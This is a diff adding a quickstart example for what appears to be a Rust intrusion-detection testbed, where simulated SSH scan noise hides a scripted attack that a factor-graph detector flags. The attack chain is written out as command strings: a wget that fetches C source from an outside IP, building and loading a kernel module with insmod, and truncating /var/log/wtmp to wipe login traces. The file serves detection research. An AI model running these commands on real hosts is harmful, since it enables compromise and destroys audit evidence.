@@ -1,0 +1,67 @@
+//! Quickstart: stand up the testbed, replay a classic S1 attack hidden in
+//! scan noise, and watch the factor-graph detector preempt it.
+//!
+//! ```text
+//! cargo run --example quickstart
+//! ```
+
+use attack_tagger::prelude::*;
+
+fn main() {
+    let mut tb = Testbed::new(TestbedConfig::default());
+    let start = tb.config().start;
+
+    // Background: a mass scanner hammering SSH across the production /16.
+    let scanner: std::net::Ipv4Addr = "103.102.8.9".parse().unwrap();
+    let mut actions: Vec<(SimTime, Action)> = Vec::new();
+    for i in 0..2_000u64 {
+        let t = start + SimDuration::from_millis(500 * i);
+        let dst = simnet::addr::ncsa_production().nth(i % 65_536);
+        actions.push((t, Action::Flow(Flow::probe(FlowId(i), t, scanner, dst, 22))));
+    }
+
+    // The real attack: user "eve" walks the S1 pattern on a compute node
+    // (download source over HTTP, compile a kernel module, wipe traces),
+    // then exfiltrates.
+    let host = simnet::topology::HostId(5);
+    let attack = [
+        "wget http://64.215.4.5/abs.c",
+        "make -C /lib/modules/4.4.0/build modules",
+        "insmod abs.ko",
+        "echo 0>/var/log/wtmp",
+    ];
+    for (i, cmd) in attack.iter().enumerate() {
+        let t = start + SimDuration::from_mins(10 + 7 * i as u64);
+        actions.push((
+            t,
+            Action::Exec(ExecAction {
+                host,
+                user: "eve".into(),
+                pid: 4_000 + i as u32,
+                ppid: 1,
+                exe: "/bin/bash".into(),
+                cmdline: cmd.to_string(),
+            }),
+        ));
+    }
+
+    tb.schedule(actions);
+    let report = tb.run();
+
+    println!("=== AttackTagger quickstart ===");
+    println!("{}", report.summary());
+    println!();
+    for n in &report.notifications {
+        println!("[{}] OPERATOR NOTIFICATION: {}", n.ts, n.message);
+    }
+    assert!(
+        !report.notifications.is_empty(),
+        "the S1 chain should have been detected"
+    );
+    println!();
+    println!(
+        "scan noise collapsed by the filter: {} alerts seen -> {} admitted",
+        report.filter.seen, report.filter.admitted
+    );
+    println!("done.");
+}
